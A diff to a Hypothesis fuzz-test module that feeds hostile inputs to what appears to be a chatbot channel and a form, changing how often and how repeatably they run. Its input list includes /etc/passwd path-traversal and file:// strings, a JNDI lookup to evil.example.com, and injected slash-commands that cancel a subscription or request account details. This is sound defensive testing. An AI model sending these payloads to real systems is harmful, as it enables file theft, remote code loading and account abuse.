@@ -1,6 +1,7 @@
 """Inputs that nobody means well with, for the channel and for the form.
 
-`BAD_INPUTS=10000` makes as many for each of the two; without it some thousands go within minutes.
+`BAD_INPUTS=10000` makes as many for each of the two, others each time; without it some thousands go
+within minutes, the same each time.
 """
 
 from __future__ import annotations
@@ -10,7 +11,8 @@ import os
 from hypothesis import HealthCheck, settings
 from hypothesis import strategies as st
 
-INPUTS = int(os.environ.get("BAD_INPUTS", "2000"))
+ASKED_FOR = os.environ.get("BAD_INPUTS")
+INPUTS = int(ASKED_FOR or "2000")
 HANGS_AFTER_SECONDS = 30
 MARK = "kwikstaart7391"  # in all that is typed here, and in nothing else
 HOSTILE = [
@@ -28,6 +30,7 @@ HOSTILE = [
     "Z" + "̴͎̀" * 600,
     "../../../../etc/passwd file:///etc/passwd ${jndi:ldap://evil.example.com}",
     "４８２０１９３７７６ ٤٨٢٠ 〇一二三",
+    "² ×² x ① ½ Ⅷ ₂ ⑴ 🄂",
     "/restart /affirm /session_start /cancel_subscription{}",
     '/give_details{"account_id": "4820193776"}',
     "a" * 1_000_000,
@@ -55,5 +58,6 @@ def share(divisor: int) -> settings:
         max_examples=INPUTS // divisor,
         deadline=None,
         database=None,
+        derandomize=ASKED_FOR is None,
         suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
     )
